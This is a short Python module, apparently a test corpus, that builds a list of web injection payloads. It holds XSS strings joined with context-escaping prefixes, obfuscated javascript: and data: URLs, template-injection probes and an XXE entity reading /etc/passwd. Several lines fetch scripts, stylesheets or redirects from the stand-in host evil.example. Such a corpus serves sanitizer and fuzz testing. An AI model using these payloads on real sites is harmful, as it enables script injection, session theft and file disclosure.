"""Words that would act on a page that took them for its own: each way out of a text with each thing to do there."""

from itertools import product

# How a word leaves the place it was put into.
WAYS_OUT = ("", '">', "'>", "</title>", "</textarea>", "</style>", "-->", "]]>", "</svg>", "</script>", "`>")
ACTS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<a href=javascript:alert(1)>here</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=//evil.example/x.swf>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<math><mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<p style=background:url(//evil.example/) onmouseover=alert(1)>x",
)
# Addresses that do something instead of leading somewhere.
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript://example.org/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "file:///etc/passwd",
    'https://example.org/" onmouseover=alert(1) x="',
    "https://example.org/' onmouseover=alert(1) x='",
    "https://example.org/><script>alert(1)</script>",
    "https://user:word@evil.example/",
)
OTHERS = (
    "{{ 7*7 }}{% raw %}",
    "{{ self.__init__.__globals__ }}",
    "${7*7}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '" onmouseover=alert(1) x="',
    "' onfocus=alert(1) autofocus x='",
    "<!--<img src=--><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=//evil.example/x.xsl?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "\u202e\u2066evil\u0000\u001b[31m",
    "\ufeff\u200b<script\u00a0>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "x" * 2000,
)
PAYLOADS = (*(f"{way}{act}" for way, act in product(WAYS_OUT, ACTS)), *ADDRESSES, *OTHERS)
